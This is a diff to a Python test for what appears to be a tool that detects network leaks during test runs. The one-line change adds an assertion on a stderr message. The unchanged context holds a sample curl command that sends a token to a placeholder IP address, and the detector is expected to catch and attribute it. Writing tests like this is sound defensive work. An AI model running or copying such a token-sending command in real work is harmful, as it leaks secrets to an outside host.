@@ -260,6 +260,7 @@ def test_a_refused_program_is_attributed_to_the_test_that_started_it(recorded):
     assert [(e["test"], e["phase"]) for e in leaks] == [("test_suite.py::test_download", "call")]
     assert leaks[0]["process"] == "curl -s http://192.0.2.1/?token=REDACTED"
     assert "leak: connect of 192.0.2.1:80 by curl -s" in result.stderr
+    assert "programs in other languages: curl" in result.stderr
 
 
 NATIVE_SUITE = """
